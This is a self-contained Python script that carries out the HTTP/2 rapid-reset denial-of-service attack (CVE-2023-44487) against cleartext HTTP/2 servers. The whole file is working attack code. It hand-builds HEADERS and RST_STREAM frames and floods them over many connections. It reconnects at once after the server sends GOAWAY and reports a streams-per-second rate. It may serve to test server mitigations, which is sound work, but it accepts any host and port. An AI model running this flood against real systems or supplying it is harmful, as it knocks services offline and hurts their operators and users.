#!/usr/bin/env python3
"""HTTP/2 rapid-reset flood (CVE-2023-44487) over cleartext HTTP/2 with prior knowledge (h2c).

On each of N connections: the client preface, an empty SETTINGS, then in a tight loop a
HEADERS frame (GET /, END_STREAM) immediately followed by RST_STREAM(CANCEL) for the same
stream, batch after batch. Frames are built by hand (as the real attack tools do): the header
block uses only static-table and literal-without-indexing HPACK representations, so the same
bytes are valid for every stream. Server SETTINGS and PINGs are acknowledged; on GOAWAY, reset
or close the connection is reopened at once (what an attacker does).

    rapid_reset.py HOST PORT SECONDS [CONNECTIONS] [BATCH]

Prints one JSON line: streams written to the socket (HEADERS+RST pairs), connections opened, GOAWAYs received
(with their error codes), connections closed by the server without GOAWAY, connect failures.
Standard library only.
"""

import json
import selectors
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SETTINGS_EMPTY = b"\x00\x00\x00\x04\x00\x00\x00\x00\x00"
SETTINGS_ACK = b"\x00\x00\x00\x04\x01\x00\x00\x00\x00"
# :method GET (static 2), :scheme http (static 6), :path / (static 4),
# :authority "localhost" (literal without indexing, name = static 1).
HEADER_BLOCK = b"\x82\x86\x84\x01\x09localhost"
HEADERS_PREFIX = struct.pack(">I", len(HEADER_BLOCK))[1:] + b"\x01\x05"  # END_STREAM|END_HEADERS
RST_PREFIX = b"\x00\x00\x04\x03\x00"
CANCEL = b"\x00\x00\x00\x08"
PAIR_LEN = 9 + len(HEADER_BLOCK) + 13
MAX_STREAM_ID = 2**31 - 1
GOAWAY_CODES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 7: "REFUSED_STREAM",
                8: "CANCEL", 11: "ENHANCE_YOUR_CALM"}


class Conn:
    def __init__(self, host, port, stats):
        self.sock = socket.create_connection((host, port), timeout=2)
        self.sock.setblocking(False)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.out = bytearray(PREFACE + SETTINGS_EMPTY)
        self.control_bytes = len(self.out)
        self.sent_bytes = 0
        self.counted = 0
        self.inbuf = bytearray()
        self.next_id = 1
        self.dead = False
        stats["connections"] += 1

    def fill(self, batch, stats):
        if self.next_id + 2 * batch > MAX_STREAM_ID:
            self.dead = True
            return
        parts = []
        for sid in range(self.next_id, self.next_id + 2 * batch, 2):
            sid_bytes = struct.pack(">I", sid)
            parts.append(HEADERS_PREFIX + sid_bytes + HEADER_BLOCK + RST_PREFIX + sid_bytes + CANCEL)
        self.next_id += 2 * batch
        self.out += b"".join(parts)

    def control(self, frame):
        """Queues a control frame; it goes out after the pairs already queued (frames are
        never split, so the pair count stays exact)."""
        self.out += frame
        self.control_bytes += len(frame)

    def written(self, sent, stats):
        """Accounts `sent` bytes just written: counts whole HEADERS+RST pairs that left."""
        self.sent_bytes += sent
        pairs = (self.sent_bytes - self.control_bytes) // PAIR_LEN
        if pairs > self.counted:
            stats["streams"] += pairs - self.counted
            self.counted = pairs

    def parse(self, stats):
        buf = self.inbuf
        while len(buf) >= 9:
            length = int.from_bytes(buf[0:3], "big")
            if len(buf) < 9 + length:
                break
            ftype, flags = buf[3], buf[4]
            payload = bytes(buf[9:9 + length])
            del buf[:9 + length]
            if ftype == 0x4 and not flags & 0x1:  # SETTINGS
                self.control(SETTINGS_ACK)
            elif ftype == 0x6 and not flags & 0x1:  # PING
                self.control(b"\x00\x00\x08\x06\x01\x00\x00\x00\x00" + payload)
            elif ftype == 0x7:  # GOAWAY
                code = int.from_bytes(payload[4:8], "big") if len(payload) >= 8 else -1
                name = GOAWAY_CODES.get(code, str(code))
                stats["goaway"][name] = stats["goaway"].get(name, 0) + 1
                self.dead = True
            elif ftype == 0x0:  # DATA: responses to streams that raced the reset
                stats["data_frames"] += 1
            elif ftype == 0x1:
                stats["response_headers"] += 1


def main():
    host, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    connections = int(sys.argv[4]) if len(sys.argv) > 4 else 8
    batch = int(sys.argv[5]) if len(sys.argv) > 5 else 50
    stats = {"streams": 0, "connections": 0, "goaway": {}, "closed_without_goaway": 0,
             "connect_failures": 0, "response_headers": 0, "data_frames": 0}
    sel = selectors.DefaultSelector()
    conns = []

    def open_one():
        try:
            conn = Conn(host, port, stats)
        except OSError:
            stats["connect_failures"] += 1
            time.sleep(0.01)
            return
        sel.register(conn.sock, selectors.EVENT_READ | selectors.EVENT_WRITE, conn)
        conns.append(conn)

    def close(conn):
        if conn in conns:
            conns.remove(conn)
            sel.unregister(conn.sock)
            conn.sock.close()

    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        while len(conns) < connections and time.monotonic() < deadline:
            open_one()
        for key, events in sel.select(timeout=0.05):
            conn = key.data
            try:
                if events & selectors.EVENT_READ:
                    data = conn.sock.recv(65536)
                    if not data:
                        if not conn.dead:
                            stats["closed_without_goaway"] += 1
                        conn.dead = True
                    else:
                        conn.inbuf += data
                        conn.parse(stats)
                if events & selectors.EVENT_WRITE and not conn.dead:
                    if len(conn.out) < 16384:
                        conn.fill(batch, stats)
                    sent = conn.sock.send(conn.out)
                    del conn.out[:sent]
                    conn.written(sent, stats)
            except (BlockingIOError, InterruptedError):
                pass
            except OSError:
                if not conn.dead:
                    stats["closed_without_goaway"] += 1
                conn.dead = True
            if conn.dead:
                close(conn)
    for conn in list(conns):
        close(conn)
    stats["seconds"] = seconds
    stats["client_cpu_s"] = round(time.process_time(), 1)
    stats["streams_per_s"] = round(stats["streams"] / seconds)
    print(json.dumps(stats))


if __name__ == "__main__":
    main()
